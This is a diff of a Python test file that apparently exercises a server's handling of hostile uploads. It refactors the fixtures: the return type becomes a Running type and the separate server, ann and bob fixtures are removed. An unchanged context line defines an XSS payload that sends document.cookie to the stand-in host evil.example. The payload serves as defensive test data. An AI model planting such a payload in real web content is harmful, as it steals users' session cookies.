@@ -8,7 +8,7 @@ from pathlib import Path
 import httpx
 import pytest
 
-from tests.explore import Client, laboratory, refusal
+from tests.explore import Client, Running, laboratory, refusal
 from tests.explore_life import (
     failures_of,
     files_below,
@@ -28,28 +28,13 @@ SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
 
 
 @pytest.fixture(scope="module")
-def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[RunningServer, Client, Client]]:
+def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
     """A server of low limits with the keys ann and bob."""
     limits = {"max_upload_file_bytes": MAX_FILE_BYTES, "max_upload_files": MAX_FILES}
     with laboratory(tmp_path_factory.mktemp("hostile") / "home", **limits) as running:
         yield running
         faults = [line for line in running[0].lines() if line["level"] == "error"]
         assert faults == []
-
-
-@pytest.fixture(scope="module")
-def server(running: tuple[RunningServer, Client, Client]) -> RunningServer:
-    return running[0]
-
-
-@pytest.fixture(scope="module")
-def ann(running: tuple[RunningServer, Client, Client]) -> Client:
-    return running[1]
-
-
-@pytest.fixture(scope="module")
-def bob(running: tuple[RunningServer, Client, Client]) -> Client:
-    return running[2]
 
 
 @pytest.fixture
